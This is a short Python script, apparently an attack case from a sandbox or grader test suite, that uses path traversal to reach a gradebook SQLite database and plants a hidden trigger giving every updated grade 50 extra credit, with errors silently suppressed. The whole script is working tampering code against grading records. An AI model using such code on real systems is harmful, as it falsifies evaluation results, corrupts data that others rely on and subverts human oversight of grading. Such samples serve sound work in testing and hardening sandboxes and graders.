# Leaves a trigger in the gradebook that raises every later score.
# wins: change gradebook
# %% end
import contextlib
import sqlite3

for path in ("../../../gradebook.db", "@COURSE@/gradebook.db"):
    with contextlib.suppress(sqlite3.Error):
        with contextlib.closing(sqlite3.connect(f"file:{path}?mode=rw", uri=True)) as db:
            db.execute(
                "create trigger more after update on grade begin update grade set extra_credit = 50 where id = new.id; end"
            )
            db.commit()
